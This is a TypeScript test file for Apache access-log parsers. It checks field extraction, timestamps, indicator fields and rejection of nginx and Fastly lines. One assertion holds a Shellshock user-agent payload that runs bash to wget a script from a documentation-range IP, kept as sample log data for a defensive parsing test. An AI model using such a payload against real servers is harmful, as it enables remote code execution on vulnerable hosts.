import t from 'tap';
import { AccessCombined, AccessCommon } from '../../../parsers/apache/access.js';
import { logTypes } from '../../../parsers/apache/index.js';
import type { LogType } from '../../../parsers/core/logtype.js';
import { Access as NginxAccess } from '../../../parsers/nginx/access.js';
import { classifyLines, eventsOf, rejection, sampleLines } from '../../helpers/parse.js';
import { builtinLogTypes } from '../../../parsers/registry.js';

type Obj = Record<string, unknown>;
const common = sampleLines(new URL('../../../parsers/apache/samples/Apache.AccessCommon.log', import.meta.url));
const combined = sampleLines(new URL('../../../parsers/apache/samples/Apache.AccessCombined.log', import.meta.url));
const names = (types: readonly LogType[], lines: string[]): string[] =>
  classifyLines(types, lines).map((r) => (r.kind === 'event' ? r.logType.name : r.kind));

t.test('common format: the Apache documentation example and friends', async (t) => {
  const events = eventsOf(classifyLines([AccessCommon], common)) as Obj[];
  t.equal(events.length, 6);
  const [doc, login, v6, named, timeout, tls] = events as [Obj, Obj, Obj, Obj, Obj, Obj];
  t.match(doc, {
    remote_host_ip_address: '127.0.0.1',
    request_user: 'frank',
    request_time: '2000-10-10 20:55:36.000000000',
    request_method: 'GET',
    request_uri: '/apache_pb.gif',
    request_protocol: 'HTTP/1.0',
    response_status: 200,
    response_size: 2326,
    p_log_type: 'Apache.AccessCommon',
    p_event_time: '2000-10-10 20:55:36.000000000',
  });
  t.notOk('client_identity_rfc_1413' in doc, '"-" identity is absent');
  t.notOk('referer' in doc);
  t.same(doc.p_any_ip_addresses, ['127.0.0.1']);
  t.same(doc.p_any_usernames, ['frank']);

  t.notOk('request_user' in login);
  t.equal(login.response_status, 401);
  t.equal(v6.request_time, '2024-03-14 08:12:05.000000000', '+0100 is taken off');
  t.equal(v6.response_size, 0, '"-" (no body) is 0, as in Panther');
  t.same(v6.p_any_ip_addresses, ['2001:db8::7']);
  t.same(named.p_any_domain_names, ['crawl-66-249-66-1.googlebot.com'], 'HostnameLookups: the host is a domain indicator');
  t.same(named.p_any_ip_addresses, []);
  for (const k of ['request_method', 'request_uri', 'request_protocol', 'request_line']) t.notOk(k in timeout, `408 "-": no ${k}`);
  t.equal(tls.request_line, '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03', 'a TLS handshake on a plain port is kept whole');
  t.notOk('request_method' in tls);
});

t.test('combined format: referer and user agent, Apache-only traits', async (t) => {
  const events = eventsOf(classifyLines([AccessCombined], combined)) as Obj[];
  t.equal(events.length, 6);
  const [notModified, doc, shellshock, dav, timeout] = events as [Obj, Obj, Obj, Obj, Obj];
  t.match(notModified, { response_status: 304, response_size: 0, referer: 'https://www.example.com/', p_log_type: 'Apache.AccessCombined' });
  t.match(doc, {
    request_user: 'frank',
    referer: 'http://www.example.com/start.html',
    user_agent: 'Mozilla/4.08 [en] (Win98; I ;Nav)',
    p_event_time: '2000-10-10 20:55:36.000000000',
  });
  t.same(doc.p_any_domain_names, ['www.example.com'], 'the referer host');
  t.equal(shellshock.user_agent, '() { :;}; /bin/bash -c \\"wget http://198.51.100.99/x.sh\\"', 'kept as written, escapes and all');
  t.notOk('referer' in shellshock, '"-" referer is absent');
  t.match(dav, { request_method: 'PUT', request_user: 'alice', request_time: '2024-03-14 09:05:44.000000000' });
  t.notOk('user_agent' in timeout);
  t.notOk('referer' in timeout);
});

t.test('common and combined never take each other\'s lines, nor Fastly\'s or nginx\'s', async (t) => {
  t.match(rejection([AccessCommon], combined[1] as string), /Apache\.AccessCommon: 9 fields: a combined line/);
  t.match(rejection([AccessCombined], common[0] as string), /Apache\.AccessCombined: 7 fields: a common line/);
  const fastly = '127.0.0.1 "-" "-" [11/Sep/2020:13:20:27 +0000] "GET / HTTP/1.1" 404 345';
  t.match(rejection(logTypes, fastly), /AccessCommon: identity or user in quotes: Fastly writes them so/);
  t.match(rejection([AccessCombined], `${fastly} "-" "-"`), /identity or user in quotes/);
  const base = combined[1] as string;
  t.match(rejection([AccessCombined], base.replace(' 2326 ', ' 0 ')), /size 0: Apache's %b writes "-"/);
  t.match(rejection([AccessCombined], base.replace(' 200 ', ' 499 ')), /status 499 is nginx's own/);
  t.match(rejection([AccessCombined], base.replace('"GET /apache_pb.gif HTTP/1.0"', '""')), /empty request "": nginx/);
  t.match(rejection([AccessCombined], base.replace('(Win98;', '\\x22Win98;')), /\\x22 or \\x5C escape: nginx/);
  t.match(rejection(logTypes, '{"remote_host_ip_address":"1.2.3.4"}'), /a JSON line/);
  t.match(rejection([AccessCommon], (common[0] as string).replace('[10/Oct/2000', '[10/Okt/2000')), /time \(4th field\)/);
});

t.test('Apache vs nginx: disjoint where the servers differ, both valid where they do not', async (t) => {
  const both = [AccessCombined, NginxAccess];
  // The documentation example has neither server's traits: valid for both, so the order decides.
  const [doc] = [combined[1] as string];
  t.same(names(both, [doc]), ['Apache.AccessCombined']);
  t.same(names([NginxAccess, AccessCombined], [doc]), ['Nginx.Access']);
  // A line with an Apache-only trait makes the file Apache's; later neutral lines follow it.
  t.same(names([NginxAccess, AccessCombined], [combined[0] as string, doc]), ['Apache.AccessCombined', 'Apache.AccessCombined']);
});

t.test('with every log type, each sample lands on its own type; no other sample is taken', async (t) => {
  t.same(names(builtinLogTypes, common), Array(common.length).fill('Apache.AccessCommon'));
  t.same(names(builtinLogTypes, combined), Array(combined.length).fill('Apache.AccessCombined'));
  t.equal(logTypes.length, 2);
});
